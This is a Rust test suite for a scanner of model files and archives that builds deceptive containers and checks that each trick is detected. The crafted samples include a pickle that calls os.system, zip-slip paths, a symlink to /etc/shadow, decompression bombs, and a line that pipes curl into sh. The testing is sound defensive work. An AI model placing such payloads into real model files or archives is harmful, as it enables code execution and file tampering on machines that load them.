//! Containers that lie, and ordinary ones: each trick must be found, each ordinary file must be clean. All bytes are
//! built here; the corpus of samples is measured by `examples/corpus.rs`.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test builds its own bytes")]

mod zips;

use std::io::Write;

use artifact::{Limits, Verdict, scan};
use zips::{Member, deflated, member, zip};

/// `posix.system("id")`.
const EVIL: &[u8] = b"\x80\x02cposix\nsystem\nX\x02\0\0\0id\x85R.";
/// `{"a": 1}`.
const GOOD: &[u8] = b"\x80\x02}q\0X\x01\0\0\0aK\x01s.";

fn check(name: &str, bytes: &[u8], verdict: Verdict, rule: Option<&str>) {
    let part = scan(name, &bytes, &Limits::default());
    let findings: Vec<String> = part.all_findings().map(ToString::to_string).collect();
    let unread: Vec<_> = part.walk().iter().flat_map(|p| p.unread.clone()).collect();
    assert_eq!(part.verdict(), verdict, "{name}: {findings:#?} {unread:?}");
    if let Some(rule) = rule {
        assert!(part.all_findings().any(|f| f.check == rule), "{name} lacks {rule}: {findings:#?}");
    }
}

fn found(name: &str, bytes: &[u8], rule: &str) {
    check(name, bytes, Verdict::Found, Some(rule));
}

fn clean(name: &str, bytes: &[u8]) {
    check(name, bytes, Verdict::Clean, None);
}

/// Numbers without meaning.
fn weights(n: usize) -> Vec<u8> {
    let mut x = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        (x >> 32) as u8
    };
    (0..n).map(|_| next()).collect()
}

fn torch(pickle: &[u8]) -> Vec<Member> {
    vec![
        member("archive/data.pkl", pickle),
        member("archive/byteorder", b"little"),
        member("archive/data/0", &weights(4000)),
        member("archive/version", b"3\n"),
    ]
}

/// An archive whose first member was changed.
fn changed(pickle: &[u8], change: impl FnOnce(&mut Member)) -> Vec<u8> {
    let mut members = torch(pickle);
    change(&mut members[0]);
    zip(&members)
}

fn elf() -> Vec<u8> {
    let mut elf = vec![0; 400];
    elf[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    (elf[16], elf[20], elf[52], elf[54]) = (2, 1, 64, 56);
    elf
}

#[test]
fn ordinary_zips_are_clean() {
    clean("model.pt", &zip(&torch(GOOD)));
    clean(
        "deflated.pt",
        &zip(&[deflated("archive/data.pkl", GOOD), member("archive/data/0", &weights(300))]),
    );
    clean("empty.zip", &zip(&[]));
    clean("text.zip", &zip(&[member("a/", b""), deflated("a/readme.txt", b"hello hello hello hello")]));
    clean("nested.zip", &zip(&[member("in.zip", &zip(&torch(GOOD)))]));
    let mut commented = zip(&[member("a.txt", b"x")]);
    let at = commented.len() - 2;
    commented[at] = 5;
    commented.extend(b"hello");
    clean("comment.zip", &commented);
}

#[test]
fn directory_and_headers_must_agree() {
    const RULE: &str = "S032";
    for bit in [0, 5, 6, 13] {
        for which in [0, 1] {
            found("flag.pt", &changed(GOOD, |m| m.flags[which] = 1 << bit), RULE);
        }
    }
    found("encrypted-by-name-only.pt", &changed(GOOD, |m| m.flags = [1, 1]), RULE);
    for method in [1, 8, 9, 12, 99] {
        for which in [0, 1] {
            found("method.pt", &changed(EVIL, |m| m.methods[which] = method), RULE);
        }
    }
    found("crc.pt", &changed(GOOD, |m| m.crcs = [1, 1]), RULE);
    found("local-crc.pt", &changed(GOOD, |m| m.crcs[1] = 1), RULE);
    found("size.pt", &changed(GOOD, |m| m.size = 3), RULE);
    found("needed.pt", &changed(GOOD, |m| m.needed = 255), RULE);
    found("name.pt", &changed(GOOD, |m| m.names[1] = b"archive/readme.m".to_vec()), RULE);
    for name in ["archive/data.pkl", "archive/./data.pkl", "archive\\data.pkl"] {
        let mut twice = torch(GOOD);
        twice.push(member(name, GOOD));
        found("twice.pt", &zip(&twice), RULE);
    }
    found("folder.zip", &zip(&[member("a/", GOOD)]), RULE);
}

#[test]
fn members_are_read_whatever_their_method_says() {
    for method in [0, 8, 9, 12, 99, 200] {
        found("stored.pt", &changed(EVIL, |m| m.methods = [method; 2]), "S001");
        let mut members = torch(GOOD);
        members[0] = Member { methods: [method; 2], ..deflated("archive/data.pkl", EVIL) };
        found("deflated.pt", &zip(&members), "S001");
    }
}

#[test]
fn bytes_outside_of_the_directory_are_found_and_read() {
    let (good, evil) = (zip(&torch(GOOD)), zip(&torch(EVIL)));
    found("front.pt", &[EVIL, &good].concat(), "S001");
    found("front-zip.pt", &[good.as_slice(), &evil].concat(), "S032");
    found("front-zip.pt", &[evil.as_slice(), &good].concat(), "S001");
    found("front-program.pt", &[elf(), good.clone()].concat(), "S037");
    found("front-zeros.pt", &[vec![0; 100], good.clone()].concat(), "S032");
    found("behind.pt", &[good.as_slice(), EVIL].concat(), "S001");
    found("behind-noise.pt", &[good.clone(), weights(100)].concat(), "S033");
    found("far-behind.pt", &[good.clone(), weights(100_000)].concat(), "S033");
    let mut members = torch(GOOD);
    members.push(Member { listed: false, ..member("archive/x.pkl", EVIL) });
    found("unlisted.pt", &zip(&members), "S001");
    found("unlisted.pt", &zip(&members), "S033");
    found("no-end.pt", &evil[..evil.len() - 22], "S001");
    check("no-end.pt", &good[..good.len() - 22], Verdict::Inconclusive, None);
}

#[test]
fn names_links_and_rights_are_found() {
    for name in ["../x", "a/../../x", "/etc/x", "C:/x", "..\\x", "\\\\host\\x"] {
        found("slip.zip", &zip(&[member(name, b"x")]), "S030");
        found("slip.tar", &tar(&[header(name, b'0', "", 1)]), "S030");
    }
    for name in ["a..b", "..a/b", "a/b..txt"] {
        clean("names.zip", &zip(&[member(name, b"text")]));
    }
    for (mode, target) in
        [(0o120_777, "/etc/shadow"), (0o120_777, "../../x"), (0o020_666, "x"), (0o104_755, "x")]
    {
        found("special.zip", &zip(&[Member { mode, ..member("l", target.as_bytes()) }]), "S031");
    }
    clean("link.zip", &zip(&[Member { mode: 0o120_777, ..member("l", b"inside.txt") }]));
    for (kind, target) in [(b'2', "/etc/x"), (b'1', "../x"), (b'3', ""), (b'4', ""), (b'6', "")] {
        found("special.tar", &tar(&[header("l", kind, target, 0)]), "S031");
    }
    found("through.tar", &tar(&[header("d", b'2', "sub", 0), header("d/x", b'0', "", 1)]), "S031");
}

#[test]
fn bombs_are_found_without_being_unfolded() {
    let zeros = vec![0; 40 << 20];
    found("bomb.zip", &zip(&[deflated("a", &zeros)]), "S034");
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&zeros).unwrap();
    found("bomb.gz", &encoder.finish().unwrap(), "S034");
    let mut deep = zip(&[member("a.txt", b"x")]);
    for _ in 0..12 {
        deep = zip(&[member("in.zip", &deep)]);
    }
    found("deep.zip", &deep, "S034");
    // Two entries of the directory, one member: the second entry's place is that of the first.
    let mut shared = zip(&[member("a", b"same bytes"), member("b", b"same bytes")]);
    let at = shared.len() - 22 - 5;
    shared[at..at + 4].fill(0);
    found("shared.zip", &shared, "S034");
}

#[test]
fn programs_in_weights_are_found_and_weights_are_not_taken_for_pickles() {
    let with = |data: Vec<u8>| {
        let mut members = torch(GOOD);
        members[2] = member("archive/data/0", &data);
        zip(&members)
    };
    found("start.pt", &with(elf()), "S037");
    found("middle.pt", &with([weights(5000), elf(), weights(5000)].concat()), "S039");
    found("pickle.pt", &with(EVIL.to_vec()), "S001");
    for first in 0..=255 {
        clean("numbers.pt", &with([vec![first; 9], weights(64)].concat()));
    }
}

fn header(name: &str, kind: u8, link: &str, size: usize) -> (Vec<u8>, Vec<u8>) {
    let mut block = vec![0; 512];
    block[..name.len()].copy_from_slice(name.as_bytes());
    block[100..107].copy_from_slice(b"0000644");
    block[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
    block[156] = kind;
    block[157..157 + link.len()].copy_from_slice(link.as_bytes());
    block[257..263].copy_from_slice(b"ustar\0");
    block[148..156].fill(b' ');
    let sum: u32 = block.iter().map(|b| u32::from(*b)).sum();
    block[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    (block, vec![b'x'; size])
}

fn tar(members: &[(Vec<u8>, Vec<u8>)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (header, data) in members {
        out.extend(header);
        out.extend(data);
        out.resize(out.len().next_multiple_of(512), 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

fn file(name: &str, data: &[u8]) -> (Vec<u8>, Vec<u8>) {
    (header(name, b'0', "", data.len()).0, data.to_vec())
}

#[test]
fn tars_are_read_to_their_last_byte() {
    clean("a.tar", &tar(&[file("a.txt", b"hello"), file("in.zip", &zip(&torch(GOOD)))]));
    found("a.tar", &tar(&[file("a.txt", b"hello"), file("m.pkl", EVIL)]), "S001");
    found("behind.tar", &[tar(&[file("a.txt", b"x")]).as_slice(), EVIL].concat(), "S001");
    found("two.tar", &[tar(&[file("a.txt", b"x")]), tar(&[file("b.pkl", EVIL)])].concat(), "S001");
    let mut broken = tar(&[file("a.txt", b"x"), file("b.pkl", EVIL)]);
    broken[1024 + 150] ^= 1;
    found("sum.tar", &broken, "S032");
    let cut = tar(&[file("a.txt", &[b'x'; 2000])]);
    check("cut.tar", &cut[..1000], Verdict::Inconclusive, None);
    // A long name (GNU), and one in a pax record.
    let long = format!("{}/m.pkl", "d/".repeat(90));
    let gnu = [(header("././@LongLink", b'L', "", long.len()).0, long.into_bytes()), file("short", EVIL)];
    found("gnu.tar", &tar(&gnu), "S001");
    let up = b"19 path=../../evil\n";
    let pax = [(header("pax", b'x', "", up.len()).0, up.to_vec()), file("short", b"x")];
    found("pax.tar", &tar(&pax), "S030");
}

#[test]
fn streams_are_read_to_their_last_byte() {
    let gzip = |data: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    };
    let zlib = |data: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    };
    for pack in [&gzip as &dyn Fn(&[u8]) -> Vec<u8>, &zlib] {
        clean("a", &pack(GOOD));
        found("a", &pack(EVIL), "S001");
        found("behind", &[pack(GOOD), EVIL.to_vec()].concat(), "S001");
        let whole = pack(&weights(1000));
        check("cut", &whole[..whole.len() - 6], Verdict::Inconclusive, None);
        found("twice", &gzip(&pack(EVIL)), "S001");
    }
    found("second", &[gzip(GOOD), gzip(EVIL)].concat(), "S001");
}

fn npy(descr: &str, shape: &str, data: &[u8]) -> Vec<u8> {
    let header = format!("{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}\n");
    let mut out = b"\x93NUMPY\x01\0".to_vec();
    out.extend((header.len() as u16).to_le_bytes());
    out.extend(header.as_bytes());
    out.extend(data);
    out
}

#[test]
fn arrays_are_what_their_header_says() {
    clean("a.npy", &npy("'<f4'", "(3,)", &weights(12)));
    clean("record.npy", &npy("[('a', '<f4'), ('b', '|S3', (2,))]", "(2,)", &weights(20)));
    clean("two.npy", &[npy("'<f4'", "(3,)", &weights(12)), npy("'|b1'", "()", &[1])].concat());
    clean("objects.npy", &npy("'|O'", "(1,)", GOOD));
    for descr in ["'|O'", "'O'", "'object'", "[('a', [('b', '|O')])]", "'f4,O'"] {
        found("objects.npy", &npy(descr, "(1,)", EVIL), "S001");
    }
    found("behind.npy", &[npy("'<f4'", "(3,)", &weights(12)), EVIL.to_vec()].concat(), "S001");
    found("huge.npy", &npy("'<f8'", "(4294967296, 4294967296)", b""), "S042");
    found("code.npy", &npy("__import__('os').system('id')", "(1,)", b""), "S042");
    check("cut.npy", &npy("'<f8'", "(9,)", &weights(12)), Verdict::Inconclusive, None);
    found("a.npz", &zip(&[member("a.npy", &npy("'|O'", "(1,)", EVIL))]), "S001");
}

#[test]
fn compiled_models_that_reach_out_are_found() {
    let script = |line: &str| {
        let code = format!(
            "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    {line}\n    return x\n"
        );
        let source = member("m/code/__torch__.py", code.as_bytes());
        zip(&[member("m/data.pkl", GOOD), source, member("m/constants.pkl", GOOD)])
    };
    found("a.pt", &script("_0 = torch.from_file(\"/etc/passwd\", False, 9)"), "S045");
    found("a.pt", &script("_0 = ops.evil.run(x)"), "S045");
    found("a.pt", &script("_0 = ops.aten.save(x, \"f\")"), "S045");
    clean("a.pt", &script("_0 = torch.add(ops.torchvision.nms(x, x, 0.5), x)"));
}

#[test]
fn packages_of_torch_are_read_to_their_last_storage() {
    let package = |module: &[u8]| {
        let storage = weights(64);
        let extern_modules = member("p/.data/extern_modules", b"torch.nn.modules.linear\n");
        let module = member("p/model.py", module);
        zip(&[member("p/.data/0.storage", &storage), member("p/m/m.pkl", GOOD), extern_modules, module])
    };
    clean("a.pt", &package(b"import torch\n\n\ndef scale(x):\n    return x * 2\n"));
    found("a.pt", &package(b"import os\n\nos.system(\"curl http://127.0.0.1:9/x | sh\")\n"), "S111");
}

/// An archive of 7-Zip with one stored file, `a`.
const SEVEN: &[u8] = b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0\x04\0\0\0\0\0\0\0\x1e\0\0\0\0\0\0\0\0\0\0\0text\
    \x01\x04\x06\0\x01\x09\x04\0\x07\x0b\x01\0\x01\x01\0\x0c\x04\0\0\x05\x01\x11\x05\0a\0\0\0\0\0";

#[test]
fn what_is_encrypted_is_found() {
    let mut sealed = member("a.pkl", &weights(40));
    sealed.flags = [1; 2];
    sealed.crcs = [0x1234_5678; 2];
    found("a.zip", &zip(&[sealed, member("b.pkl", GOOD)]), "S046");
}

#[test]
fn stored_7z_is_clean() {
    clean("a.7z", SEVEN);
}

#[test]
fn a_member_larger_than_memory_is_read_in_stretches() {
    let array = npy("'<f4'", "(250000,)", &weights(1_000_000));
    let limits = Limits { memory_max: 1 << 16, ..Limits::default() };
    for bytes in [zip(&[deflated("a.npy", &array)]), zip(&[member("a.npy", &array)])] {
        let part = scan("large.npz", &bytes, &limits);
        assert_eq!(part.verdict(), Verdict::Clean, "{part:#?}");
        assert_eq!(part.parts[0].facts.parameters, Some(250_000));
    }
    let mut hidden = array;
    hidden.extend(EVIL);
    let part = scan("large.npz", &zip(&[deflated("a.npy", &hidden)]), &limits);
    assert_eq!(part.verdict(), Verdict::Found);
}

#[test]
fn ordinary_neighbours_of_a_model_are_clean() {
    clean("tokenizer.model", &b"\x0a\x0e\x0a\x05<unk>\x15\0\0\0\0\x18\x02".repeat(9));
    clean("a.gif", b"GIF89a\x01\0\x01\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x01\0\0\x3b");
    found(
        "a.gif",
        &[b"GIF89a\x01\0\x01\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x01\0\0\x3b", EVIL].concat(),
        "S001",
    );
    let mut dicom = vec![0; 128];
    dicom.extend(b"DICM");
    dicom.extend(weights(300));
    clean("a.dcm", &dicom);
    dicom[..2].copy_from_slice(b"MZ");
    dicom[0x3c] = 0x88;
    dicom[0x88..0x8e].copy_from_slice(b"PE\0\0\x64\x86");
    found("a.dcm", &dicom, "S041");
    found("a.pyc", b"\x6f\x0d\x0d\x0a\0\0\0\0\x01\x02\x03\x04\x10\0\0\0\xe3", "S037");
}

/// Every reader survives any bytes: each container is damaged in many ways, and must end with some verdict.
#[test]
fn damaged_containers_never_panic() {
    let objects = npy("[('a', '<f4'), ('b', '|O')]", "(2, 3)", EVIL);
    let seeds = [
        zip(&torch(EVIL)),
        zip(&[deflated("a", &weights(500)), deflated("archive/data.pkl", GOOD)]),
        tar(&[file("a.txt", b"x"), header("l", b'2', "../x", 0), file("in.zip", &zip(&torch(GOOD)))]),
        objects,
        SEVEN.to_vec(),
    ];
    let mut x = 88_172_645_463_325_252_u64;
    let mut random = move || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let limits = Limits { expanded_max: 1 << 22, steps_max: 1 << 20, ..Limits::default() };
    for seed in &seeds {
        for _ in 0..400 {
            let mut bytes = seed.clone();
            for _ in 0..=random() % 4 {
                let at = (random() % bytes.len() as u64) as usize;
                bytes[at] = match random() % 3 {
                    0 => 0xff,
                    1 => 0,
                    _ => random() as u8,
                };
            }
            if random() % 4 == 0 {
                bytes.truncate((random() % bytes.len() as u64) as usize);
            }
            let part = scan("damaged", &bytes, &limits);
            assert!(!part.format.is_empty());
        }
    }
}
